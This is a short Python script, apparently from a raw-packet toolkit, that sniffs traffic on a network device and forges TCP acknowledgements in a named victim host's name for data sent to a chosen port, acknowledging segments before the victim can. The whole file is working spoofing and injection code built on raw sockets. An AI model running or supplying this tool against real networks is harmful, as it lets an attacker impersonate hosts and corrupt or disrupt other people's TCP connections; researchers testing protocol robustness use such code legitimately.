#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""
Acknowledge TCP data that goes to another host, in its name, before it can:

  ack_for.py DEVICE VICTIM PORT

DEVICE is that by which the data goes to PORT of VICTIM.
"""

import socket
import struct
import sys

from rawcsp import packets as p

ETH_P_ALL = 3


def acknowledge(out, ip, victim, port):
    head, end = 4 * (ip[0] & 15), struct.unpack(">H", ip[2:4])[0]
    sport, dport, seq, ack, offset = struct.unpack(">HHIIB", ip[head:head + 13])
    size = end - head - 4 * (offset >> 4)
    if size <= 0 or dport != port:
        return
    peer = socket.inet_ntoa(ip[12:16])
    segment = p.tcp_segment(dport, sport, ack, (seq + size) & 0xffffffff, "A")
    out.sendto(p.tcp(victim, peer, segment), (peer, 0))


def main():
    device, victim, port = sys.argv[1:]
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                         socket.htons(ETH_P_ALL))
    sock.bind((device, ETH_P_ALL))
    print("ready", flush=True)
    while True:
        ip = sock.recv(65536)
        if ip[0] >> 4 == 4 and ip[9] == p.TCP and \
           ip[16:20] == socket.inet_aton(victim):
            acknowledge(out, ip, victim, int(port))


if __name__ == "__main__":
    main()
